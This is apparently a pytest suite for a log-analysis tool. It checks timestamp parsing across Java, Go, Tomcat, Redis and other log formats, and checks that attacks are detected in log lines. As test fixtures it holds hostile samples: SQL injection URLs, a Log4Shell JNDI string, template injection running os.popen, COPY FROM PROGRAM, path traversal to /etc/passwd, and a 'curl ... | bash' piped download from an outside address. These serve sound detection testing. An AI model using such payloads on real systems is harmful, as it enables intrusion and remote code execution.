"""Logs of programs with a form of their own: what is a record, when it was, and what its message says."""

from __future__ import annotations

import io

import pytest

from svc.assistant.file_types.identify import identify
from svc.assistant.findings import Coverage, Finding, Severity
from svc.assistant.log_readers.applications import reader
from svc.assistant.log_readers.lines import Unread
from svc.assistant.log_readers.parts import Part
from svc.assistant.sigma.event import Event
from svc.assistant.skills.events.tool import inspect

JAVA = """\
2026-11-20 03:10:00,331 ERROR [exec-1] c.e.web.Login - failed
java.lang.NullPointerException: Cannot invoke "String.length()"
\tat com.example.web.Login.post(Login.java:44)
Caused by: java.io.IOException: closed
\t... 12 more
2026-11-20 03:10:02,001 INFO  [exec-2] c.e.web.Login - login ok user=bob
"""
FORMS = {
    "Log4j": (JAVA, ["2026-11-20T03:10:00.331", "2026-11-20T03:10:02.001"]),
    "Go": (
        "2026/11/20 03:10:00 listening on :8080\n2026/11/20 03:10:01.250000 main.go:12: ready\n",
        ["2026-11-20T03:10:00", "2026-11-20T03:10:01.250000"],
    ),
    "Tomcat": (
        (
            "20-Nov-2026 03:10:00.100 INFO [main] org.apache.catalina.startup.Catalina.start Server startup\n"
            "20-Nov-2026 03:10:02.100 SEVERE [main] org.apache.catalina.core.StandardService destroyed\n"
        ),
        ["2026-11-20T03:10:00.100", "2026-11-20T03:10:02.100"],
    ),
    "Redis": (
        (
            "812:M 20 Nov 2026 03:10:00.123 * Ready to accept connections\n"
            "812:M 20 Nov 2026 03:10:01.123 # Possible SECURITY ATTACK detected.\n"
        ),
        ["2026-11-20T03:10:00.123", "2026-11-20T03:10:01.123"],
    ),
    "PostgreSQL": (
        (
            "2026-11-20 03:10:00.100 UTC [900] app@shop LOG:  statement: SELECT 1\n"
            "2026-11-20 03:10:00.200 UTC [900] app@shop LOG:  duration: 1.2 ms\n"
        ),
        ["2026-11-20T03:10:00.100Z", "2026-11-20T03:10:00.200Z"],
    ),
    "level first": (
        "ERROR 2026-11-20 03:10:00 +0100 payment refused\n[WARN] 2026-11-20T03:10:05Z slow\n",
        ["2026-11-20T02:10:00.000Z", "2026-11-20T03:10:05.000Z"],
    ),
    "Rails": (
        "I, [2026-11-20T03:10:00.123456 #1]  INFO -- : Begun\nI, [2026-11-20T03:10:01.123456 #1]  INFO -- : Done\n",
        ["2026-11-20T03:10:00.123456", "2026-11-20T03:10:01.123456"],
    ),
    "Logback": (
        "03:10:00.123 [main] INFO  c.e.App - a\n03:10:01.123 [x-1] ERROR c.e.App - b\n",
        ["", ""],
    ),
    "glog": (
        "I1120 03:10:00.123456       1 server.go:12] starting\nE1120 03:10:01.123456       1 exec.go:44] failed\n",
        ["--11-20T03:10:00", "--11-20T03:10:01"],
    ),
    "no time": ("INFO:     Started server process [1]\nWARNING:root:disk is full\n", ["", ""]),
    "weekday": (
        "Fri Nov 20 03:09:04 2026 [pid 2] CONNECT: Client\nFri Nov  6 03:09:06 2026 [pid 2] CONNECT: Client\n",
        ["2026-11-20T03:09:04", "2026-11-06T03:09:06"],
    ),
}
NO_LOGS = {
    "prose": "On 2026-11-20 03:10:00 the attacker logged in.\nThen nothing happened for two days.\n",
    "no year": "03:10:00 started\n03:10:01 stopped\n",
    "a timeline": (
        "2026-11-20 03:12:45 UTC The attacker logged in as root from 203.0.113.50\n"
        "2026-11-20 03:15:00 UTC - Mimikatz was run and LSASS dumped\n"
        "2026-11-20 03:20:00 UTC Data copied to an S3 bucket with rclone\n"
    ),
    "headings": "INFO: what this is\nIt is a text.\nWith several lines.\n",
    "no such day": "2026-13-45 03:10:00 started\nthen stopped\n",
    "a date in a text": "2026-11-20 03:10:00 was when it began\nand nobody saw it\n",
    "a table": "2026-11-20,03:10\n2026-11-21,03:11\n",
}


def events_in(text: str) -> list[Event]:
    return [item for item in reader.read(io.BytesIO(text.encode())) if isinstance(item, Event)]


def found_in(text: str) -> dict[str, Severity]:
    items = inspect(io.BytesIO(text.encode()), source="x.log")
    return {item.title: item.severity for item in items if isinstance(item, Finding)}


@pytest.mark.parametrize("form", FORMS)
def test_the_times_of_a_form_are_read(form: str):
    text, times = FORMS[form]
    assert identify(text.encode(), "x")[1] in ("applog", "authlog")
    assert [event.time for event in events_in(text)] == times


@pytest.mark.parametrize("name", NO_LOGS)
def test_a_text_that_is_no_log_is_not_read_as_one(name: str):
    assert not reader.is_application_log(NO_LOGS[name].encode())


@pytest.mark.parametrize(
    ("content", "records"),
    [
        pytest.param(JAVA.encode("utf-16"), 2, id="UTF-16, as SQL Server writes"),
        pytest.param(b"2026-11-20 03:10:00 INFO start\n", 1, id="one record"),
        pytest.param(b"2026-11-20 03:10:00 ERROR x\n" + b"\tat com.x.Y(Z.java:1)\n" * 500, 1, id="a long stack trace"),
    ],
)
def test_a_log_of_an_unusual_shape_is_known(content: bytes, records: int):
    assert identify(content, "x.log")[1] == "applog"
    assert sum(isinstance(item, Event) for item in reader.read(io.BytesIO(content))) == records


def test_a_stack_trace_belongs_to_its_record():
    first, second = events_in(JAVA)
    assert (first.number, second.number, first.fields["level"], second.fields["level"]) == (1, 6, "error", "info")
    assert first.fields["message"].endswith("\t... 12 more")
    assert "NullPointerException" in first.excerpt
    assert "NullPointerException" not in second.fields["message"]


def test_lines_before_the_first_record_are_told():
    items = list(reader.read(io.BytesIO(b"mysqld, Version: 8.0\nTcp port: 3306\n" + JAVA.encode())))
    assert [item.count for item in items if isinstance(item, Unread)] == [2]


@pytest.mark.parametrize("size", [1, 70, 150, 400])
def test_a_log_in_parts_gives_the_same_records(size: int):
    text = JAVA * 5

    class Content(io.BytesIO):
        part = Part()

    found: list[Event] = []
    carried: dict[str, object] | None = None
    end = size
    while True:
        content = Content(text.encode())
        content.part = Part(end, carried)
        content.part.begin()
        found += [item for item in reader.read(content) if isinstance(item, Event)]
        carried, end = content.part.carried, end + size
        if not content.part.is_paused:
            break
    assert found == events_in(text)


def test_the_kernels_messages_have_no_time():
    found = found_in(
        "[    0.000000] Linux version 6.1\n[ 1200.123456] evil: loading out-of-tree module taints kernel.\n"
    )
    assert found["kernel module loaded: evil"] is Severity.MEDIUM


REQUESTS = {
    "HAProxy": (
        "Nov 20 03:10:01 lb haproxy[100]: 203.0.113.5:51000 [20/Nov/2026:03:10:01.100] fe be/app1 0/0/1/5/6 {0} 512 - "
        '- ---- 1/1/0/0/0 0/0 "{1}"\n'
    ),
    "Envoy": (
        '[2026-11-20T03:10:00.000Z] "{1}" {0} - 0 512 5 4 "203.0.113.5" "curl/8" "a-b" "example.com" "10.0.0.5:8080"\n'
    ),
    "Istio": (
        '[2026-11-20T03:10:00.000Z] "{1}" {0} - via_upstream - "-" 0 512 5 4 "203.0.113.5" "curl/8" "a-b" "www" '
        '"10.0.0.5:8080" outbound|80 10.0.0.1:1\n'
    ),
    "Python": '2026-11-20 03:10:00,001 web INFO 203.0.113.5 - "{1}" {0} 512\n',
    "uvicorn": 'INFO:     203.0.113.5:51000 - "{1}" {0} OK\n',
    "a program in syslog": '2026-11-20T03:10:00Z web1 gunicorn[5]: client 203.0.113.5 "{1}" {0}\n',
}


@pytest.mark.parametrize("name", REQUESTS)
def test_a_request_in_a_message_is_judged_as_one(name: str):
    line = REQUESTS[name]
    attack = "GET /index.php?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20users-- HTTP/1.1"
    quiet = line.format("200", "GET /static/app.css HTTP/1.1") * 3
    found = found_in(quiet + line.format("200", attack))
    assert found["203.0.113.5: SQL injection"] is Severity.HIGH
    assert set(found_in(quiet).values()) <= {Severity.INFO}


def test_a_request_of_rails_names_its_client():
    line = 'I, [2026-11-20T03:10:00.1 #1]  INFO -- : Started GET "{0}" for 203.0.113.5 at 2026-11-20\n'
    quiet = line.format("/static/app.css") * 3
    assert "203.0.113.5: SQL injection" in found_in(quiet + line.format("/?id=1%27%20UNION%20SELECT%201,2--"))
    assert set(found_in(quiet).values()) <= {Severity.INFO}


def test_a_word_that_looks_like_a_method_is_no_request():
    [event, _] = events_in("2026-11-20 03:10:00 GET the new HTTP/2 client\n2026-11-20 03:10:01 BUDGET 5 HTTP/1.1 x\n")
    assert event.category == "webserver"
    assert event.fields["cs-method"] == "GET"


TRANSFERS = {
    "vsftpd": (
        'Fri Nov 20 03:09:10 2026 [pid 2] [admin] OK UPLOAD: Client "203.0.113.5", "/var/www/html/{0}"\n'
        "Fri Nov 20 03:09:12 2026 [pid 2] [admin] CONNECT: x\n"
    ),
    "xferlog": "Fri Nov 20 03:09:10 2026 1 203.0.113.5 1400 /var/www/html/{0} b _ i r admin ftp 0 * c\n" * 2,
    "pure-ftpd": (
        "Nov 20 03:09:10 ftp1 pure-ftpd: (admin@203.0.113.5) [NOTICE] /var/www/html//{0} uploaded  (1400 bytes, 1K)\n"
    ),
    "OpenSSH": 'Nov 20 03:09:10 web1 internal-sftp[7]: close "/var/www/html/{0}" bytes read 0 written 1400\n',
}


@pytest.mark.parametrize("name", TRANSFERS)
def test_a_script_that_is_uploaded_is_told(name: str):
    found, quiet = (found_in(TRANSFERS[name].format(file)) for file in ("up.php", "photo.jpg"))
    assert found["Possible web shell uploaded over FTP or SFTP"] is Severity.MEDIUM
    assert set(quiet.values()) <= {Severity.INFO}


def test_a_refused_or_unfinished_transfer_is_none():
    refused = TRANSFERS["vsftpd"].format("up.php").replace("OK UPLOAD", "FAIL UPLOAD")
    unfinished = TRANSFERS["xferlog"].format("up.php").replace(" * c", " * i")
    assert set((found_in(refused) | found_in(unfinished)).values()) <= {Severity.INFO}


MESSAGES = {
    "Log4Shell lookup strings (JNDI) in an application log": ("agent ${jndi:ldap://203.0.113.5/a}", "agent ${version}"),
    "Code or template injection strings in an application log": (
        "template error: {{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "template error: {{config.title}} is not defined",
    ),
    "Web SQL injection strings in an application log": (
        "SELECT * FROM users WHERE name='' or '1'='1'",
        "SELECT * FROM users WHERE name='union' AND id=1",
    ),
    "SQL command execution or script written by a database": (
        "statement: COPY x FROM PROGRAM 'id'",
        "statement: COPY x FROM '/srv/import/customers.csv'",
    ),
    "Path traversal strings in an application log": (
        "cannot open /srv/files/../../../../etc/passwd",
        "cannot open ../../../node_modules/x/index.js",
    ),
    "Reverse shell or piped download in an application log": (
        "ran: curl -s http://203.0.113.5/x.sh | bash",
        "ran: curl -s http://203.0.113.5/x.json | jq .",
    ),
}


@pytest.mark.parametrize("title", MESSAGES)
def test_a_message_with_an_attack_is_told_and_its_twin_is_not(title: str):
    attack, twin = (f"2026-11-20 03:10:00 INFO start\n2026-11-20 03:10:01 INFO {text}\n" for text in MESSAGES[title])
    assert title in found_in(attack)
    assert set(found_in(twin).values()) <= {Severity.INFO}


GUARDS = {
    "Fail2ban alert: address banned (sshd) (denied)": (
        "2026-11-20 03:11:09,402 fail2ban.actions        [812]: NOTICE  [sshd] Ban 203.0.113.5\n",
        "2026-11-20 03:21:09,402 fail2ban.actions        [812]: NOTICE  [sshd] Unban 203.0.113.5\n",
    ),
    "Microsoft Defender alert: HackTool:Win32/Mimikatz.D": (
        "2026-11-20T03:10:00.200Z DETECTIONEVENT MPSOURCE_REALTIME HackTool:Win32/Mimikatz.D file:C:\\m.exe\n",
        "2026-11-20T03:10:01.200Z SDN query for file C:\\x.exe, Trojan:Win32/None\n",
    ),
    "ClamAV alert: Php.Webshell.C99-1": (
        "Fri Nov 20 03:10:02 2026 -> /tmp/x: Php.Webshell.C99-1 FOUND\n",
        "Fri Nov 20 03:10:03 2026 -> /tmp/y: OK\n",
    ),
}


@pytest.mark.parametrize("title", GUARDS)
def test_the_verdict_of_a_guard_is_kept(title: str):
    said, quiet = GUARDS[title]
    assert [one for one in found_in(said + quiet * 2) if "alert" in one] == [title]


def test_what_was_looked_for_is_said():
    [coverage] = [item for item in inspect(io.BytesIO(JAVA.encode()), source="x.log") if isinstance(item, Coverage)]
    assert (coverage.read_as, coverage.understood, coverage.total) == ("log of an application", 2, 2)
    assert "detection rules" in coverage.looked_for
